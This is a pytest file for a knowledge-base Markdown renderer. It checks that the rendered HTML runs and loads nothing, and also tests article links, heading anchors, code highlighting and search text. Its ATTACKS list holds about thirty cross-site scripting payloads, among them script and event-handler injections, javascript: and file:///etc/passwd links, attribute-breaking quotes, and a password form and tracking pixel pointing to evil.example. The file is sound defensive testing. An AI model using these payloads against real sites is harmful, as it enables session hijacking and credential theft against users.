"""Markdown becomes HTML that does nothing but show."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from services.knowledge.rendering import render

_ATTRIBUTES = {"id", "href", "title", "class", "rel", "start", "data-article"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<style>@import 'http://evil.example'</style>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](kb:javascript:alert(1))",
    '[x](kb:a"onclick="alert(1))',
    '[x](http://a.example/" onmouseover="alert(1))',
    '[x](http://a.example "title\\" onmouseover=\\"alert(1)")',
    "![x](http://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '```"><script>alert(1)</script>\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    '# x" onclick="alert(1)',
    "| <script>alert(1)</script> |\n|---|\n| <img onerror=alert(1)> |",
    "> <form action=//evil.example><input name=password>",
    "[x]: javascript:alert(1)\n\n[x]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028<script>\u2029alert(1)",
]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "img", "svg", "iframe", "style", "math", "form", "input", "noscript"}:
            self.faults.append(tag)
        for name, value in attrs:
            if name not in _ATTRIBUTES:
                self.faults.append(f"{tag} {name}")
            if name == "href" and not (value or "").startswith(("http://", "https://", "mailto:", "/", "#")):
                self.faults.append(f"{tag} {name}={value}")


@pytest.mark.parametrize("markdown", ATTACKS)
def test_nothing_runs_and_nothing_is_loaded(markdown: str) -> None:
    tags = _Tags()
    tags.feed(render(markdown).html)
    assert tags.faults == []


def test_links_between_articles_lead_to_their_page() -> None:
    html = render("[a](kb:reset-password) [b](kb:reset-password#s-steps) [c](kb:../admin)").html
    assert 'href="/support/knowledge-base/reset-password" data-article="reset-password"' in html
    assert 'href="/support/knowledge-base/reset-password#s-steps"' in html
    assert "admin" not in html


def test_headings_have_anchors_of_their_own() -> None:
    rendered = render("# Steps\n\n## Steps\n\n### Größe `x`\n\n## 你好")
    assert [(each.level, each.id, each.title) for each in rendered.contents] == [
        (2, "s-steps", "Steps"),
        (2, "s-steps-2", "Steps"),
        (3, "s-grosse-x", "Größe x"),
        (2, "s-section", "你好"),
    ]
    assert '<h3 id="s-grosse-x">' in rendered.html


def test_code_is_coloured_by_classes() -> None:
    html = render("```bash\necho 'x' # y\n```\n\n```unknown-language\n<b>\n```").html
    assert '<span class="hl-c1"># y</span>' in html
    assert "&lt;b&gt;" in html


def test_the_text_is_what_can_be_searched() -> None:
    text = render("## Check\n\nRun **this**\nnow:\n\n```bash\ncf list\n```\n\n| a |\n|---|\n| `b` |").text
    assert text.split() == ["Check", "Run", "this", "now:", "cf", "list", "a", "b"]


def test_depth_has_its_limit() -> None:
    assert len(render(">" * 5000 + "x").html) < 20_000
